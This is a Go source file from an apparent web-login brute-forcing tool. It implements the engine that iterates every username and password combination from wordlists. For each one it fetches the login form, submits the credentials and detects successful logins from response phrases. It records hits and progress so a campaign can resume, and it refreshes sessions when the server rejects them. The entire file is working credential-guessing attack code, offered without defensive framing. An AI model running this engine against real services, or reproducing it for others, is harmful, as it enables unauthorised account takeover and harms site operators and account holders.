package attack

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"time"

	"github.com/zarni99/brutepedro/pkg/config"
	"github.com/zarni99/brutepedro/pkg/credstore"
	"github.com/zarni99/brutepedro/pkg/logger"
	"github.com/zarni99/brutepedro/pkg/output"
	"github.com/zarni99/brutepedro/pkg/session"
)

var (
	ErrInterrupted  = errors.New("interrupted")
	ErrNoCandidates = errors.New("username or password list is empty")
)

// Sessions is the part of *session.Manager the engine drives.
type Sessions interface {
	Create(ctx context.Context) (*session.Session, error)
	Refresh(ctx context.Context, sess *session.Session) (*session.Session, error)
	ForceRefresh(ctx context.Context, sess *session.Session) (*session.Session, error)
	FetchLoginForm(ctx context.Context, sess *session.Session) (session.LoginForm, error)
	BuildPayload(form session.LoginForm, username, password string) url.Values
	Submit(ctx context.Context, sess *session.Session, postURL string, payload url.Values) (*session.Response, error)
}

// Store is the persisted campaign state. *credstore.Store satisfies it.
type Store interface {
	Usernames() ([]string, error)
	Passwords() ([]string, error)
	KnownSuccesses() (credstore.Set, error)
	Progress() (string, bool, error)
	SaveSuccess(combo string)
	SaveProgress(combo string)
}

// Reporter renders one line per issued attempt.
type Reporter interface {
	Failed(index, total int, combo string)
	Succeeded(index, total int, combo string)
}

type Outcome int

const (
	OutcomeFailure Outcome = iota
	OutcomeSuccess
	OutcomeSessionExpired
	OutcomeInfraFailure
)

func (o Outcome) String() string {
	switch o {
	case OutcomeSuccess:
		return "success"
	case OutcomeFailure:
		return "failure"
	case OutcomeSessionExpired:
		return "session-expired"
	case OutcomeInfraFailure:
		return "infra-failure"
	default:
		return "unknown"
	}
}

type State int

const (
	StateNotResumed State = iota
	StateResumed
	StateCompleted
	StateAborted
)

func (s State) String() string {
	switch s {
	case StateNotResumed:
		return "not-resumed"
	case StateResumed:
		return "resumed"
	case StateCompleted:
		return "completed"
	case StateAborted:
		return "aborted"
	default:
		return "unknown"
	}
}

type Result struct {
	Known           credstore.Set
	Attempted       int
	Skipped         int
	Successes       []string
	InfraFailures   int
	PossibleSuccess bool
	LastAttempted   string
	State           State
}

type Engine struct {
	sessions Sessions
	store    Store
	reporter Reporter
	rules    Rules
	delay    time.Duration
	sleep    func(ctx context.Context, d time.Duration) error

	sess *session.Session
}

func New(cfg config.Config, sessions Sessions, store Store, reporter Reporter) *Engine {
	if reporter == nil {
		reporter = nopReporter{}
	}
	return &Engine{
		sessions: sessions,
		store:    store,
		reporter: reporter,
		rules: Rules{
			WrongCredentialsPhrase: cfg.Detection.WrongCredentialsPhrase,
			SuccessPhrase:          cfg.Detection.SuccessPhrase,
		},
		delay: cfg.Delay(),
		sleep: sleepContext,
	}
}

// Run walks every username:password pair in list order. Combos already in
// the success file are skipped, and when a progress marker exists every
// combo up to and including it is skipped too. The marker is overwritten
// after each issued attempt.
func (e *Engine) Run(ctx context.Context) (res Result, err error) {
	res.State = StateNotResumed

	if res.Known, err = e.store.KnownSuccesses(); err != nil {
		return res, fmt.Errorf("failed to load success file: %w", err)
	}
	marker, hasMarker, err := e.store.Progress()
	if err != nil {
		return res, fmt.Errorf("failed to load progress file: %w", err)
	}
	usernames, err := e.store.Usernames()
	if err != nil {
		return res, fmt.Errorf("failed to load usernames: %w", err)
	}
	passwords, err := e.store.Passwords()
	if err != nil {
		return res, fmt.Errorf("failed to load passwords: %w", err)
	}
	if len(usernames) == 0 || len(passwords) == 0 {
		return res, ErrNoCandidates
	}

	if e.sess, err = e.sessions.Create(ctx); err != nil {
		return res, fmt.Errorf("failed to create session: %w", err)
	}

	total := len(usernames) * len(passwords)
	logger.Info("Combinations to test: %d", total)
	if hasMarker {
		logger.Info("Last saved combination: index %d", output.ComboIndex(usernames, passwords, marker))
		logger.Info("Last saved combination: %s", marker)
		logger.Info("Resuming from last saved combination.")
	} else {
		res.State = StateResumed
		logger.Info("No previous progress found. Starting from the beginning.")
	}

	defer func() {
		if r := recover(); r != nil {
			res, err = e.abort(res, fmt.Errorf("unexpected error: %v", r))
		}
	}()

	for ui, username := range usernames {
		for pi, password := range passwords {
			if ctx.Err() != nil {
				return e.abort(res, ErrInterrupted)
			}

			combo := credstore.Combo(username, password)
			if res.Known.Has(combo) {
				res.Skipped++
				continue
			}
			if res.State == StateNotResumed {
				if combo == marker {
					res.State = StateResumed
				}
				res.Skipped++
				continue
			}

			outcome := e.attempt(ctx, res.Known, username, password)
			if outcome == OutcomeInfraFailure && ctx.Err() != nil {
				// cut off mid-flight, the combo was never completed
				return e.abort(res, ErrInterrupted)
			}

			e.store.SaveProgress(combo)
			res.Attempted++
			res.LastAttempted = combo

			index := ui*len(passwords) + pi + 1
			switch outcome {
			case OutcomeSuccess:
				res.PossibleSuccess = true
				res.Successes = append(res.Successes, combo)
				e.reporter.Succeeded(index, total, combo)
			case OutcomeInfraFailure:
				res.InfraFailures++
				e.reporter.Failed(index, total, combo)
			default:
				e.reporter.Failed(index, total, combo)
			}

			if ctx.Err() != nil {
				return e.abort(res, ErrInterrupted)
			}
		}
	}

	res.State = StateCompleted
	return res, nil
}

// abort re-persists the last completed combo so a cancelled in-flight
// attempt is replayed on the next run.
func (e *Engine) abort(res Result, cause error) (Result, error) {
	if res.LastAttempted != "" {
		e.store.SaveProgress(res.LastAttempted)
	}
	res.State = StateAborted
	return res, cause
}

func (e *Engine) attempt(ctx context.Context, known credstore.Set, username, password string) Outcome {
	combo := credstore.Combo(username, password)

	sess, err := e.sessions.Refresh(ctx, e.sess)
	e.sess = sess
	if err != nil || sess == nil {
		logger.Warn("No usable session, skipping %s", combo)
		return OutcomeInfraFailure
	}

	form, err := e.sessions.FetchLoginForm(ctx, sess)
	if err != nil {
		logger.Warn("Failed to fetch login form for %s: %v", combo, err)
		return OutcomeInfraFailure
	}

	payload := e.sessions.BuildPayload(form, username, password)
	resp, err := e.sessions.Submit(ctx, sess, form.PostURL, payload)
	if err != nil {
		logger.Warn("Request error for %s -> %v", combo, err)
		return OutcomeInfraFailure
	}

	// cancellation here is picked up by the caller after the marker is saved
	_ = e.sleep(ctx, e.delay)

	switch {
	case resp.StatusCode == http.StatusUnauthorized || resp.StatusCode == http.StatusForbidden:
		logger.Warn("Session rejected with status %d, refreshing", resp.StatusCode)
		e.sess, err = e.sessions.ForceRefresh(ctx, sess)
		if err != nil {
			logger.Warn("Session refresh failed: %v", err)
		}
		return OutcomeSessionExpired
	case resp.StatusCode != http.StatusOK:
		logger.Debug("Unexpected status %d for %s", resp.StatusCode, combo)
		sess.Attempts++
		return OutcomeFailure
	}

	sess.Attempts++
	switch ClassifyBody(resp.Body, e.rules) {
	case VerdictPositive:
		if known.Add(combo) {
			e.store.SaveSuccess(combo)
		}
		return OutcomeSuccess
	case VerdictUnparseable:
		logger.Debug("Non-JSON response for %s", combo)
		return OutcomeFailure
	default:
		return OutcomeFailure
	}
}

func sleepContext(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-timer.C:
		return nil
	}
}

type nopReporter struct{}

func (nopReporter) Failed(int, int, string)    {}
func (nopReporter) Succeeded(int, int, string) {}
